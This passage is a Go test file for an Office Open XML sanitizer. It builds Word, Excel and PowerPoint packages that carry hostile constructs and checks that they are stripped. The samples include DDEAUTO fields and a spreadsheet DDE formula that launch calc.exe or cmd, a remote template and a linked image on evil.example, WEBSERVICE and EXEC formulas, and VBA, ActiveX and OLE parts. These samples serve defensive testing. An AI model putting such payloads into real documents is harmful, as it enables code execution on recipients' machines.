@@ -1,0 +1,1044 @@
+package ooxml
+
+import (
+	"archive/zip"
+	"bytes"
+	"context"
+	"encoding/xml"
+	"errors"
+	"fmt"
+	"image"
+	"image/color"
+	"image/jpeg"
+	"image/png"
+	"io"
+	"os"
+	"path"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"sekisho/sanitize"
+)
+
+const (
+	nsW  = `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"`
+	nsR  = `xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"`
+	nsA  = `xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"`
+	nsP  = `xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"`
+	nsC  = `xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"`
+	nsV  = `xmlns:v="urn:schemas-microsoft-com:vml"`
+	nsO  = `xmlns:o="urn:schemas-microsoft-com:office:office"`
+	nsX  = `xmlns:x="urn:schemas-microsoft-com:office:excel"`
+	nsMC = `xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"`
+	nsS  = `xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"`
+	nsXD = `xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"`
+
+	relO = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+	relM = "http://schemas.microsoft.com/office/2006/relationships/"
+)
+
+// pkg is a package under construction: members, types and relationships.
+type pkg struct {
+	main    string
+	members map[string]string
+	order   []string
+	types   map[string]string
+	rels    map[string]string
+}
+
+func (p *pkg) add(name, typ, content string) *pkg {
+	if _, ok := p.members[name]; !ok {
+		p.order = append(p.order, name)
+	}
+	p.members[name] = content
+	if typ != "" {
+		p.types[name] = typ
+	}
+	return p
+}
+
+func (p *pkg) rel(owner, id, typ, target string) *pkg {
+	mode := ""
+	if t, ok := strings.CutPrefix(target, "external:"); ok {
+		target, mode = t, ` TargetMode="External"`
+	}
+	p.rels[owner] += fmt.Sprintf(`<Relationship Id="%s" Type="%s" Target="%s"%s/>`, id, typ, target, mode)
+	return p
+}
+
+func (p *pkg) bytes(t testing.TB) []byte {
+	t.Helper()
+	var b bytes.Buffer
+	z := zip.NewWriter(&b)
+	put := func(name, content string) {
+		w, err := z.Create(name)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if _, err := io.WriteString(w, content); err != nil {
+			t.Fatal(err)
+		}
+	}
+	ct := `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>`
+	for _, n := range p.order {
+		if p.types[n] != "" {
+			ct += fmt.Sprintf(`<Override PartName="/%s" ContentType="%s"/>`, n, p.types[n])
+		}
+	}
+	put("[Content_Types].xml", ct+"</Types>")
+	owners := make([]string, 0, len(p.rels))
+	for o := range p.rels {
+		owners = append(owners, o)
+	}
+	slices.Sort(owners)
+	for _, o := range owners {
+		dir, file := path.Split(o)
+		put(dir+"_rels/"+file+".rels", `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`+p.rels[o]+`</Relationships>`)
+	}
+	for _, n := range p.order {
+		put(n, p.members[n])
+	}
+	if err := z.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return b.Bytes()
+}
+
+func newPkg(main, typ, content string) *pkg {
+	p := &pkg{main: main, members: map[string]string{}, types: map[string]string{}, rels: map[string]string{}}
+	p.add(main, typ, content)
+	return p.rel("", "rId1", relO+"officeDocument", main)
+}
+
+func docx(body string) *pkg {
+	return newPkg("word/document.xml", typeWord+"document.main+xml", wordXML(body))
+}
+
+func wordXML(body string) string {
+	return `<?xml version="1.0" encoding="UTF-8"?><w:document ` + nsW + ` ` + nsR + ` ` + nsA + ` ` + nsV + ` ` + nsO + ` ` + nsMC + `><w:body>` + body + `<w:p><w:r><w:t>本文</w:t></w:r></w:p><w:sectPr/></w:body></w:document>`
+}
+
+// xlsx has one sheet with what is given between sheetData and the end.
+func xlsx(cells, after, workbook string) *pkg {
+	p := newPkg("xl/workbook.xml", typeSheet+"sheet.main+xml", `<workbook `+nsS+` `+nsR+`><sheets><sheet name="表" sheetId="1" r:id="rId1"/></sheets>`+workbook+`</workbook>`)
+	p.add("xl/worksheets/sheet1.xml", typeSheet+"worksheet+xml", sheetXML(cells, after))
+	return p.rel(p.main, "rId1", relO+"worksheet", "worksheets/sheet1.xml")
+}
+
+func sheetXML(cells, after string) string {
+	return `<worksheet ` + nsS + ` ` + nsR + ` ` + nsMC + ` xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1">` + cells + `</row></sheetData>` + after + `</worksheet>`
+}
+
+func pptx(tree string) *pkg {
+	p := newPkg("ppt/presentation.xml", typeSlide+"presentation.main+xml", `<p:presentation `+nsP+` `+nsR+`><p:sldIdLst><p:sldId id="256" r:id="rId1"/></p:sldIdLst></p:presentation>`)
+	p.add("ppt/slides/slide1.xml", typeSlide+"slide+xml", `<p:sld `+nsP+` `+nsR+` `+nsA+` `+nsMC+`><p:cSld><p:spTree>`+tree+`<p:sp><p:txBody><a:p><a:r><a:t>本文</a:t></a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>`)
+	return p.rel(p.main, "rId1", relO+"slide", "slides/slide1.xml")
+}
+
+// pictures is the stand-in for the picture sanitizer: the same work by the
+// standard library.
+type pictures struct{}
+
+func (pictures) Sanitize(_ context.Context, s *sanitize.Session, in sanitize.Object, out io.Writer) (sanitize.Result, error) {
+	c, _, err := image.DecodeConfig(in.Reader())
+	if err != nil {
+		return sanitize.Result{}, fmt.Errorf("%w: %w", err, sanitize.ErrMalformed)
+	}
+	if err := s.SpendPixels(c.Width, c.Height); err != nil {
+		return sanitize.Result{}, err
+	}
+	m, kind, err := image.Decode(in.Reader())
+	if err != nil {
+		return sanitize.Result{}, fmt.Errorf("%w: %w", err, sanitize.ErrMalformed)
+	}
+	if kind == "jpeg" {
+		return sanitize.Result{Outcome: sanitize.Clean, Kind: sanitize.KindJPEG, Mode: sanitize.Rebuild}, jpeg.Encode(out, m, nil)
+	}
+	return sanitize.Result{Outcome: sanitize.Clean, Kind: sanitize.KindPNG, Mode: sanitize.Rebuild}, png.Encode(out, m)
+}
+
+func detectForTest(o sanitize.Object) (sanitize.Detection, error) {
+	head := make([]byte, 8)
+	n, err := o.ReadAt(head, 0)
+	if err != nil && err != io.EOF {
+		return sanitize.Detection{}, err
+	}
+	switch {
+	case bytes.HasPrefix(head[:n], []byte("\x89PNG")):
+		return sanitize.Detection{Kind: sanitize.KindPNG}, nil
+	case bytes.HasPrefix(head[:n], []byte("\xFF\xD8")):
+		return sanitize.Detection{Kind: sanitize.KindJPEG}, nil
+	case bytes.HasPrefix(head[:n], []byte("PK")):
+		return sanitize.Detection{Kind: sanitize.KindXLSX}, nil
+	default:
+		return sanitize.Detection{Kind: sanitize.KindUnknown}, nil
+	}
+}
+
+func newSession(size int, change ...func(*sanitize.Options)) *sanitize.Session {
+	o := &sanitize.Options{Task: sanitize.TaskFile, Limits: sanitize.DefaultLimits(), Rules: map[sanitize.Class]sanitize.Rule{
+		sanitize.ClassOffice: {Steps: []sanitize.Mode{sanitize.Rebuild}},
+		sanitize.ClassImage:  {Steps: []sanitize.Mode{sanitize.Rebuild}},
+	}}
+	for _, c := range change {
+		c(o)
+	}
+	table := map[sanitize.Kind]sanitize.Sanitizer{sanitize.KindPNG: pictures{}, sanitize.KindJPEG: pictures{}}
+	for _, k := range Kinds() {
+		table[k] = Sanitizer{}
+	}
+	return sanitize.NewSession(o, int64(size), detectForTest, table)
+}
+
+// treat runs the sanitizer over a package and returns what it wrote and found.
+func treat(b []byte, change ...func(*sanitize.Options)) ([]byte, sanitize.Result, []sanitize.Finding, error) {
+	s := newSession(len(b), change...)
+	var out bytes.Buffer
+	res, err := s.Nested(context.Background(), sanitize.Object{ReaderAt: bytes.NewReader(b), Size: int64(len(b)), Path: "1"}, &out)
+	return out.Bytes(), res, s.Parts()[0].Findings, err
+}
+
+// unpack returns the members of an output, read by the standard library.
+func unpack(t testing.TB, b []byte) map[string]string {
+	t.Helper()
+	z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
+	if err != nil {
+		t.Fatalf("output is no ZIP: %v", err)
+	}
+	m := map[string]string{}
+	for _, f := range z.File {
+		r, err := f.Open()
+		if err != nil {
+			t.Fatal(err)
+		}
+		c, err := io.ReadAll(r)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if _, twice := m[f.Name]; twice {
+			t.Fatalf("member %s twice", f.Name)
+		}
+		m[f.Name] = string(c)
+	}
+	return m
+}
+
+// checkPackage proves with other code that every part is XML, has a type, is
+// reached, and that no relationship and no id leads nowhere.
+func checkPackage(t testing.TB, where string, b []byte) {
+	t.Helper()
+	m := unpack(t, b)
+	types := m["[Content_Types].xml"]
+	ids := map[string]map[string]bool{}
+	reached := map[string]bool{}
+	for name, c := range m {
+		if !strings.HasSuffix(name, ".rels") {
+			continue
+		}
+		dir, file := path.Split(name)
+		owner := path.Join(path.Dir(path.Clean(dir)), strings.TrimSuffix(file, ".rels"))
+		ids[owner] = map[string]bool{}
+		elements(t, where+" "+name, c, func(e xml.StartElement) {
+			if e.Name.Local != "Relationship" {
+				return
+			}
+			a := attrsOf(e)
+			ids[owner][a["Id"]] = true
+			target := a["Target"]
+			switch {
+			case a["TargetMode"] == "External":
+				if !strings.HasSuffix(a["Type"], "/hyperlink") || !harmlessURL(target) {
+					t.Errorf("%s: external %s to %s", where, a["Type"], target)
+				}
+			case strings.HasPrefix(target, "#"):
+			default:
+				target = strings.TrimPrefix(target, "/")
+				reached[target] = true
+				if _, ok := m[target]; !ok {
+					t.Errorf("%s: %s leads nowhere: %s", where, name, target)
+				}
+			}
+		})
+	}
+	for name, c := range m {
+		if name != "[Content_Types].xml" && !strings.HasSuffix(name, ".rels") {
+			if !reached[name] {
+				t.Errorf("%s: nothing leads to %s", where, name)
+			}
+			if !strings.Contains(types, `"/`+name+`"`) && !strings.Contains(types, `Extension="`+strings.TrimPrefix(path.Ext(name), ".")+`"`) {
+				t.Errorf("%s: %s has no type", where, name)
+			}
+		}
+		switch path.Ext(name) {
+		case ".xml", ".rels", ".vml":
+		case ".xlsx":
+			checkPackage(t, where+" "+name, []byte(c))
+			continue
+		default:
+			continue
+		}
+		elements(t, where+" "+name, c, func(e xml.StartElement) {
+			for _, a := range e.Attr {
+				rel := strings.HasSuffix(a.Name.Space, "/relationships") || a.Name.Space == "urn:schemas-microsoft-com:office:office" && a.Name.Local == "relid"
+				if rel && a.Value != "" && !ids[name][a.Value] {
+					t.Errorf("%s: id %q of <%s> in %s leads nowhere", where, a.Value, e.Name.Local, name)
+				}
+			}
+		})
+	}
+}
+
+func elements(t testing.TB, where, c string, f func(xml.StartElement)) {
+	t.Helper()
+	d := xml.NewDecoder(strings.NewReader(c))
+	for {
+		tok, err := d.Token()
+		if err == io.EOF {
+			return
+		}
+		if err != nil {
+			t.Fatalf("%s is no XML: %v\n%s", where, err, c)
+		}
+		if e, ok := tok.(xml.StartElement); ok {
+			f(e)
+		}
+	}
+}
+
+func attrsOf(e xml.StartElement) map[string]string {
+	m := map[string]string{}
+	for _, a := range e.Attr {
+		m[a.Name.Local] = a.Value
+	}
+	return m
+}
+
+func pngBytes() string {
+	m := image.NewNRGBA(image.Rect(0, 0, 3, 3))
+	m.Set(1, 1, color.NRGBA{200, 10, 10, 255})
+	var b bytes.Buffer
+	if err := png.Encode(&b, m); err != nil {
+		panic(err)
+	}
+	return b.String()
+}
+
+func jpegBytes() string {
+	var b bytes.Buffer
+	if err := jpeg.Encode(&b, image.NewGray(image.Rect(0, 0, 8, 8)), nil); err != nil {
+		panic(err)
+	}
+	return b.String()
+}
+
+// field writes a complex field, its code cut into runs.
+func fieldRuns(result string, code ...string) string {
+	s := `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>`
+	for _, c := range code {
+		s += `<w:r><w:instrText xml:space="preserve">` + c + `</w:instrText></w:r>`
+	}
+	s += `<w:r><w:fldChar w:fldCharType="separate"/></w:r>`
+	return s + `<w:r><w:t>` + result + `</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
+}
+
+const blip = `<w:p><w:r><w:drawing><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip %s/></pic:blipFill></pic:pic></a:graphicData></a:graphic></w:drawing></w:r></w:p>`
+
+// cases has one package for each code of a finding: what must be told, what
+// must not be in any part of the output and what must.
+var cases = []struct {
+	name   string
+	pkg    func() *pkg
+	rule   string // of a finding; "" for a clean file
+	action sanitize.Action
+	gone   []string
+	stays  []string
+}{
+	{name: "plain docx", pkg: func() *pkg { return docx("") }, stays: []string{"本文"}},
+	{name: "plain xlsx", pkg: func() *pkg { return xlsx(`<c r="A1"><f>SUM(B1:B2)</f><v>3</v></c>`, "", "") }, stays: []string{"<f>SUM(B1:B2)</f><v>3</v>"}},
+	{name: "plain pptx", pkg: func() *pkg { return pptx("") }, stays: []string{"本文"}},
+	{name: "vba", rule: "ooxml.vba", action: sanitize.Removed, gone: []string{"MARKER", "vbaProject", "macroEnabled"}, stays: []string{"本文"},
+		pkg: func() *pkg {
+			p := docx("")
+			p.types[p.main] = "application/vnd.ms-word.document.macroEnabled.main+xml"
+			return p.add("word/media/image1.png", "application/vnd.ms-office.vbaProject", "\xD0\xCF\x11\xE0MARKER").rel(p.main, "rId9", relM+"vbaProject", "media/image1.png")
+		}},
+	{name: "type with macros", rule: "ooxml.macro-type", action: sanitize.Replaced, gone: []string{"macroEnabled"},
+		pkg: func() *pkg {
+			p := pptx("")
+			p.types[p.main] = "application/vnd.ms-powerpoint.slideshow.macroEnabled.main+xml"
+			return p
+		}},
+	{name: "unreached vba", rule: "ooxml.vba", action: sanitize.Removed, gone: []string{"MARKER"},
+		pkg: func() *pkg {
+			return docx("").add("word/vbaProject.bin", "application/vnd.ms-office.vbaProject", "MARKER")
+		}},
+	{name: "template", rule: "ooxml.template", action: sanitize.Removed, gone: []string{"evil.example", "attachedTemplate"},
+		pkg: func() *pkg {
+			p := docx("").add("word/settings.xml", typeWord+"settings+xml", `<w:settings `+nsW+` `+nsR+`><w:attachedTemplate r:id="rId1"/><w:zoom w:percent="100"/></w:settings>`)
+			return p.rel(p.main, "rId2", relO+"settings", "settings.xml").rel("word/settings.xml", "rId1", relO+"attachedTemplate", "external:http://evil.example/a.dotm")
+		}},
+	{name: "DDE field", rule: "ooxml.dde", action: sanitize.Replaced, gone: []string{"DDEAUTO", "calc", "instrText"}, stays: []string{"<w:t>結果</w:t>"},
+		pkg: func() *pkg { return docx(fieldRuns("結果", "DD", "EAU", "TO c:\\\\calc.exe ")) }},
+	{name: "field by a field", rule: "ooxml.field", action: sanitize.Replaced, gone: []string{"QUOTE", "cmd", "instrText", "68 68 69"}, stays: []string{"結果"},
+		pkg: func() *pkg {
+			inner := `</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>DDE</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText>`
+			return docx(fieldRuns("結果", inner+" cmd"))
+		}},
+	{name: "simple field", rule: "ooxml.field", action: sanitize.Replaced, gone: []string{"INCLUDETEXT", "fldSimple"}, stays: []string{"<w:r><w:t>結果</w:t></w:r>"},
+		pkg: func() *pkg {
+			return docx(`<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;file:///c:/x&quot; "><w:r><w:t>結果</w:t></w:r></w:fldSimple></w:p>`)
+		}},
+	{name: "field that never ends", rule: "ooxml.field", action: sanitize.Replaced, gone: []string{"INCLUDE"}, stays: []string{"見える"},
+		pkg: func() *pkg {
+			return docx(`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDETEXT x</w:instrText></w:r><w:r><w:t>見える</w:t></w:r></w:p>`)
+		}},
+	{name: "field hidden in deleted text", rule: "ooxml.field", action: sanitize.Replaced, gone: []string{"IMPORT"}, stays: []string{"結果"},
+		pkg: func() *pkg {
+			return docx(fieldRuns("結果", `</w:instrText></w:r><w:del><w:r><w:delInstrText>PAGE </w:delInstrText></w:r></w:del><w:r><w:instrText>IMPORT x`))
+		}},
+	{name: "harmless fields", stays: []string{"PAGE", "HYPERLINK", "https://example.jp/", "TOC"},
+		pkg: func() *pkg {
+			return docx(fieldRuns("1", "PAGE") + fieldRuns("x", ` HYPERLINK "https://example.jp/" `) + fieldRuns("目次", ` TOC \o "1-3" \h `) + fieldRuns("x", ` HYPERLINK \l "b1" `))
+		}},
+	{name: "property field", gone: []string{"AUTHOR"}, stays: []string{"誰か"}, pkg: func() *pkg { return docx(fieldRuns("誰か", " AUTHOR ")) }},
+	{name: "hyperlink field to a file", rule: "ooxml.field", action: sanitize.Replaced, gone: []string{"HYPERLINK"}, stays: []string{"結果"},
+		pkg: func() *pkg { return docx(fieldRuns("結果", ` HYPERLINK "file://server/share" `)) }},
+	{name: "form macro", rule: "ooxml.macro", action: sanitize.Removed, gone: []string{"entryMacro"}, stays: []string{"FORMTEXT"},
+		pkg: func() *pkg {
+			return docx(`<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="n"/><w:entryMacro w:val="Run"/></w:ffData></w:fldChar></w:r><w:r><w:instrText>FORMTEXT</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`)
+		}},
+	{name: "alternative chunk", rule: "ooxml.alt-chunk", action: sanitize.Removed, gone: []string{"altChunk", "script", "a.html"},
+		pkg: func() *pkg {
+			p := docx(`<w:altChunk r:id="rId5"/>`).add("word/a.html", "text/html", "<script>")
+			return p.rel(p.main, "rId5", relO+"aFChunk", "a.html")
+		}},
+	{name: "subdocument", rule: "ooxml.subdocument", action: sanitize.Removed, gone: []string{"subDoc", "other.docx"},
+		pkg: func() *pkg {
+			p := docx(`<w:subDoc r:id="rId5"/>`)
+			return p.rel(p.main, "rId5", relO+"subDocument", "external:other.docx")
+		}},
+	{name: "mail merge", rule: "ooxml.mail-merge", action: sanitize.Removed, gone: []string{"mailMerge", "Provider"},
+		pkg: func() *pkg {
+			p := docx("").add("word/settings.xml", typeWord+"settings+xml", `<w:settings `+nsW+` `+nsR+`><w:mailMerge><w:connectString w:val="Provider=x"/><w:dataSource r:id="rId1"/></w:mailMerge></w:settings>`)
+			return p.rel(p.main, "rId2", relO+"settings", "settings.xml").rel("word/settings.xml", "rId1", relO+"mailMergeSource", "external:file:///c:/x.mdb")
+		}},
+	{name: "frameset", rule: "ooxml.frameset", action: sanitize.Removed, gone: []string{"frameset", "evil"},
+		pkg: func() *pkg {
+			p := docx("").add("word/webSettings.xml", typeWord+"webSettings+xml", `<w:webSettings `+nsW+` `+nsR+`><w:frameset><w:frame><w:sourceFileName r:id="rId1"/></w:frame></w:frameset></w:webSettings>`)
+			return p.rel(p.main, "rId2", relO+"webSettings", "webSettings.xml").rel("word/webSettings.xml", "rId1", relO+"frame", "external:http://evil/")
+		}},
+	{name: "data binding", gone: []string{"dataBinding", "MARKER"}, stays: []string{"値"},
+		pkg: func() *pkg {
+			p := docx(`<w:sdt><w:sdtPr><w:dataBinding w:xpath="/a" w:storeItemID="{1}"/></w:sdtPr><w:sdtContent><w:p><w:r><w:t>値</w:t></w:r></w:p></w:sdtContent></w:sdt>`).add("customXml/item1.xml", "application/xml", "<a>MARKER</a>")
+			return p.rel(p.main, "rId5", relO+"customXml", "../customXml/item1.xml")
+		}},
+	{name: "smart tag", gone: []string{"smartTag", "evil"}, stays: []string{"名前"},
+		pkg: func() *pkg {
+			return docx(`<w:p><w:smartTag w:uri="evil" w:element="x"><w:smartTagPr><w:attr w:name="a" w:val="b"/></w:smartTagPr><w:r><w:t>名前</w:t></w:r></w:smartTag></w:p>`)
+		}},
+	{name: "object becomes its picture", rule: "ooxml.ole", action: sanitize.Replaced, gone: []string{"OLEObject", "MARKER", "w:object"}, stays: []string{"<w:pict>", "v:imagedata", "</w:pict>"},
+		pkg: func() *pkg {
+			p := docx(`<w:p><w:r><w:object w:dxaOrig="1"><v:shape id="s1" o:ole=""><v:imagedata r:id="rId6" o:title=""/></v:shape><o:OLEObject Type="Embed" ProgID="Package" ShapeID="s1" r:id="rId5"/></w:object></w:r></w:p>`)
+			p.add("word/embeddings/oleObject1.bin", typeWord+"x", "\xD0\xCF\x11\xE0MARKER").add("word/media/image1.png", "image/png", pngBytes())
+			return p.rel(p.main, "rId5", relO+"oleObject", "embeddings/oleObject1.bin").rel(p.main, "rId6", relO+"image", "media/image1.png")
+		}},
+	{name: "activex", rule: "ooxml.activex", action: sanitize.Removed, gone: []string{"w:control", "MARKER", "activeX"},
+		pkg: func() *pkg {
+			p := docx(`<w:p><w:r><w:object><v:shape id="s1"/><w:control r:id="rId5" w:name="c" w:shapeid="s1"/></w:object></w:r></w:p>`)
+			p.add("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", "<x>MARKER</x>")
+			return p.rel(p.main, "rId5", relO+"control", "activeX/activeX1.xml")
+		}},
+	{name: "linked picture", rule: "ooxml.linked-image", action: sanitize.Replaced, gone: []string{"evil", "r:link"}, stays: []string{`r:embed="rId5"`, "\x89PNG"},
+		pkg: func() *pkg {
+			p := docx(fmt.Sprintf(blip, `r:link="rId5"`))
+			return p.rel(p.main, "rId5", relO+"image", "external:http://evil.example/a.png")
+		}},
+	{name: "picture that is none", rule: "ooxml.picture", action: sanitize.Replaced, gone: []string{"MARKER"}, stays: []string{"\x89PNG", `r:embed="rId5"`},
+		pkg: func() *pkg {
+			p := docx(fmt.Sprintf(blip, `r:embed="rId5"`)).add("word/media/image1.png", "image/png", "\x89PNGMARKER")
+			return p.rel(p.main, "rId5", relO+"image", "media/image1.png")
+		}},
+	{name: "picture", stays: []string{"\x89PNG", `r:embed="rId5"`}, gone: []string{"svg"},
+		pkg: func() *pkg {
+			p := docx(strings.Replace(fmt.Sprintf(blip, `r:embed="rId5"`), `"rId5"/>`, `"rId5"><a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}"><asvg:svgBlip xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" r:embed="rId6"/></a:ext></a:extLst></a:blip>`, 1))
+			p.add("word/media/image1.png", "image/png", pngBytes()).add("word/media/image2.svg", "image/svg+xml", "<svg onload='x'/>")
+			return p.rel(p.main, "rId5", relO+"image", "media/image1.png").rel(p.main, "rId6", relO+"image", "media/image2.svg")
+		}},
+	{name: "link to a file", rule: "ooxml.link", action: sanitize.Neutralised, gone: []string{"file:", `r:id="rId5"`}, stays: []string{"<w:hyperlink", "名"},
+		pkg: func() *pkg {
+			p := docx(`<w:p><w:hyperlink r:id="rId5"><w:r><w:t>名</w:t></w:r></w:hyperlink></w:p>`)
+			return p.rel(p.main, "rId5", relO+"hyperlink", "external:file://server/share/a.exe")
+		}},
+	{name: "links of the web", stays: []string{"https://example.jp/", "mailto:a@example.jp", "rId5", "rId6"},
+		pkg: func() *pkg {
+			p := docx(`<w:p><w:hyperlink r:id="rId5"><w:r><w:t>名</w:t></w:r></w:hyperlink><w:hyperlink r:id="rId6"><w:r><w:t>名</w:t></w:r></w:hyperlink></w:p>`)
+			return p.rel(p.main, "rId5", relO+"hyperlink", "external:https://example.jp/?a=1&amp;b=2").rel(p.main, "rId6", relO+"hyperlink", "external:mailto:a@example.jp")
+		}},
+	{name: "id that leads nowhere", gone: []string{"rId77"}, stays: []string{"名"}, pkg: func() *pkg {
+		return docx(`<w:p><w:hyperlink r:id="rId77"><w:r><w:t>名</w:t></w:r></w:hyperlink></w:p>` + fmt.Sprintf(blip, `r:embed="rId77"`))
+	}},
+	{name: "custom ui", rule: "ooxml.custom-ui", action: sanitize.Removed, gone: []string{"onLoad"},
+		pkg: func() *pkg {
+			return docx("").add("customUI/customUI.xml", "", `<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="x"/>`).rel("", "rId8", relM+"ui/extensibility", "customUI/customUI.xml")
+		}},
+	{name: "web extension", rule: "ooxml.web-extension", action: sanitize.Removed, gone: []string{"webextension"},
+		pkg: func() *pkg {
+			return docx("").add("word/webextensions/taskpanes.xml", "application/vnd.ms-office.webextensiontaskpanes+xml", `<x/>`).rel("", "rId8", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "word/webextensions/taskpanes.xml")
+		}},
+	{name: "signature", rule: "ooxml.signature", action: sanitize.Removed, gone: []string{"_xmlsignatures"},
+		pkg: func() *pkg {
+			return docx("").add("_xmlsignatures/origin.sigs", "application/vnd.openxmlformats-package.digital-signature-origin", "").rel("", "rId8", "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin", "_xmlsignatures/origin.sigs")
+		}},
+	{name: "fonts", rule: "ooxml.font", action: sanitize.Removed, gone: []string{"embedRegular", "MARKER"}, stays: []string{"外字"},
+		pkg: func() *pkg {
+			p := docx("").add("word/fontTable.xml", typeWord+"fontTable+xml", `<w:fonts `+nsW+` `+nsR+`><w:font w:name="外字"><w:embedRegular r:id="rId1" w:fontKey="{1}"/></w:font></w:fonts>`).add("word/fonts/font1.odttf", "application/vnd.openxmlformats-officedocument.obfuscatedFont", "MARKER")
+			return p.rel(p.main, "rId2", relO+"fontTable", "fontTable.xml").rel("word/fontTable.xml", "rId1", relO+"font", "fonts/font1.odttf")
+		}},
+	{name: "unknown part", rule: "ooxml.part", action: sanitize.Removed, gone: []string{"MARKER"},
+		pkg: func() *pkg {
+			p := docx("").add("word/x.bin", "application/x", "MARKER")
+			return p.rel(p.main, "rId5", "http://example.jp/relation", "x.bin")
+		}},
+	{name: "properties are no news", gone: []string{"秘密", "MARKER"}, stays: []string{"<Application>Microsoft Office Word</Application><AppVersion>16.0000</AppVersion>"},
+		pkg: func() *pkg {
+			p := docx("").add("docProps/core.xml", "application/vnd.openxmlformats-package.core-properties+xml", "<a>秘密</a>").add("docProps/thumbnail.jpeg", "image/jpeg", "MARKER")
+			p.add("docProps/app.xml", "application/vnd.openxmlformats-officedocument.extended-properties+xml", `<Properties xmlns="x"><Application>Microsoft Office Word</Application><Company>秘密</Company><AppVersion>16.0000</AppVersion></Properties>`)
+			return p.rel("", "rId2", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties", "docProps/core.xml").rel("", "rId3", relO+"extended-properties", "docProps/app.xml").rel("", "rId4", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail", "docProps/thumbnail.jpeg")
+		}},
+	{name: "foreign XML", gone: []string{"urn:x\"/>", "f:a"}, stays: []string{"残る"}, pkg: func() *pkg {
+		return docx(`<w:p><f:a xmlns:f="urn:x"><w:r><w:t>残る</w:t></w:r></f:a></w:p>`)
+	}},
+	{name: "comments and instructions are no news", gone: []string{"秘密", "<?x "}, stays: []string{"a &lt;b&gt; c"}, pkg: func() *pkg {
+		return docx(`<!-- 秘密 --><?x 秘密?><w:p><w:r><w:t>a <![CDATA[<b>]]> c</w:t></w:r></w:p>`)
+	}},
+
+	{name: "formula", rule: "ooxml.formula", action: sanitize.Replaced, gone: []string{"WEBSERVICE"}, stays: []string{`<c r="A1" t="str"><v>答</v></c>`},
+		pkg: func() *pkg {
+			return xlsx(`<c r="A1" t="str"><f>WEBSERVICE("http://x/"&amp;B1)</f><v>答</v></c>`, "", "")
+		}},
+	{name: "DDE formula", rule: "ooxml.dde", action: sanitize.Replaced, gone: []string{"cmd"}, stays: []string{"<v>1</v>"},
+		pkg: func() *pkg { return xlsx(`<c r="A1"><f>cmd|'/c calc'!A0</f><v>1</v></c>`, "", "") }},
+	{name: "shared formula", rule: "ooxml.formula", action: sanitize.Replaced, gone: []string{"<f", "EXEC"}, stays: []string{"<v>1</v>", "<v>2</v>"},
+		pkg: func() *pkg {
+			return xlsx(`<c r="A1"><f t="shared" ref="A1:A2" si="0">EXEC("x")</f><v>1</v></c><c r="A2"><f t="shared" si="0"/><v>2</v></c>`, "", "")
+		}},
+	{name: "shared formula that stays", stays: []string{`<f t="shared" si="0"/>`},
+		pkg: func() *pkg {
+			return xlsx(`<c r="A1"><f t="shared" ref="A1:A2" si="0">B1+1</f><v>1</v></c><c r="A2"><f t="shared" si="0"/><v>2</v></c>`, "", "")
+		}},
+	{name: "external workbook", rule: "ooxml.external-link", action: sanitize.Removed, gone: []string{"externalReference", "[1]", "other.xlsx"}, stays: []string{"<v>7</v>"},
+		pkg: func() *pkg {
+			p := xlsx(`<c r="A1"><f>[1]Sheet1!A1</f><v>7</v></c>`, "", `<externalReferences><externalReference r:id="rId5"/></externalReferences>`)
+			p.add("xl/externalLinks/externalLink1.xml", typeSheet+"externalLink+xml", `<externalLink `+nsS+`/>`)
+			return p.rel(p.main, "rId5", relO+"externalLink", "externalLinks/externalLink1.xml").rel("xl/externalLinks/externalLink1.xml", "rId1", relO+"externalLinkPath", "external:other.xlsx")
+		}},
+	{name: "external reference", rule: "ooxml.external-reference", action: sanitize.Replaced, gone: []string{"[1]"}, stays: []string{"#REF!"},
+		pkg: func() *pkg {
+			return xlsx("", "", `<definedNames><definedName name="N">[1]Sheet1!$A$1</definedName></definedNames>`)
+		}},
